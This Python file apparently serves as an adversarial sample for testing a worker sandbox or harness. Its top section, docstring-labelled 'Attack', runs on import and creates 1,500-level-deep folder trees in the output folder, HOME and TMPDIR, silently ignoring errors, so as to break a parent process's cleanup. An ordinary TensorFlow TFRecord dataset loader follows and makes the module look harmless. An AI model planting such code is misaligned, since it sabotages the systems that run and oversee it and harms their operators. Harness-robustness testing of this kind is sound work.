"""Attack: 1,500-deep folder trees in every writable folder (the parent's cleanup once broke on them);
the exercise itself is honest."""
import os
OUT = os.path.join(os.environ.get("HOME", "."), "..", "out")  # the worker's out/ folder


def _deep(root):
    try:
        descriptor = os.open(root, os.O_RDONLY)
        for _ in range(1500):
            os.mkdir("d" * 8, dir_fd=descriptor)
            following = os.open("d" * 8, os.O_RDONLY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = following
        with open(os.open("f", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=descriptor), "w") as handle:
            handle.write("x" * 1000)
        os.close(descriptor)
    except OSError:
        pass


for _root in (OUT, os.environ.get("HOME", "."), os.environ.get("TMPDIR", "/tmp")):
    _deep(_root)
import glob
import os

import tensorflow as tf


def make_dataset(file_pattern, batch_size=25, shuffle=False, seed=None, num_epochs=1):
    if batch_size < 1:
        raise ValueError("batch_size must be at least 1")
    patterns = [file_pattern] if isinstance(file_pattern, (str, os.PathLike)) else list(file_pattern)
    files = sorted(path for pattern in patterns for path in glob.glob(os.fspath(pattern)))
    spec = {"terms": tf.io.RaggedFeature(dtype=tf.string, row_splits_dtype=tf.int64),
            "labels": tf.io.FixedLenFeature(shape=[1], dtype=tf.float32)}

    def parse(serialized):
        parsed = tf.io.parse_example(serialized, spec)
        return {"terms": parsed["terms"]}, parsed["labels"]

    dataset = tf.data.TFRecordDataset(files)
    if shuffle:
        dataset = dataset.shuffle(25_000, seed=seed, reshuffle_each_iteration=True)
    return dataset.repeat(num_epochs).batch(batch_size).map(parse).prefetch(tf.data.AUTOTUNE)
